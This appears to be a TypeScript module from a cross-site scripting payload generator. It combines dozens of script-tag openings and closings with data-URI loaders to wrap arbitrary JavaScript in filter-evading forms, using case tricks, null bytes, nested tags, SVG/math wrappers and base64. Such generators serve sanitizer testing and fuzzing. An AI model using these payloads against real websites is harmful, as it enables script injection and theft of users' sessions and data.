import type { Writer } from './payload-writer.ts'

export function scripts(): Writer[] {
  const opens = [
    '<script>',
    '<SCRIPT>',
    '<script/x>',
    '<script\n>',
    '<script\t type=text/javascript>',
    '<script type=module>',
    '<script ~~~>',
    '<scr<script>ipt>',
    '<script\u0000>',
    '<\u0000script>',
    '<svg><script>',
    '<math><script>',
    '<script async defer>',
    '<script language=vbscript>',
    '<script type="text/ecmascript">',
    '<noscript><script>',
    '<template><script>',
    '<xmp><script>',
    '<p><script>',
    '<table><script>',
    '<select><script>',
    '<svg><style><script>',
    '<svg><desc><script>',
    '<![CDATA[<script>',
  ]
  const ends = ['</script>', '</SCRIPT >', '</script/x>', '</script\n>', '']
  const written = opens.flatMap((open) =>
    ends.map(
      (end): Writer =>
        (code) =>
          `${open}${code}//${end}`,
    ),
  )
  const loaded = ['src', 'xlink:href', 'href', 'data-src', 'SRC'].flatMap((name) => [
    (code: string) => `<script ${name}="data:text/javascript,${code}"></script>`,
    (code: string) => `<svg><script ${name}="data:text/javascript,${code}"/></svg>`,
    (code: string) => `<script type=module ${name}='data:text/javascript;base64,${btoa(code)}'></script>`,
  ])
  return [...written, ...loaded]
}
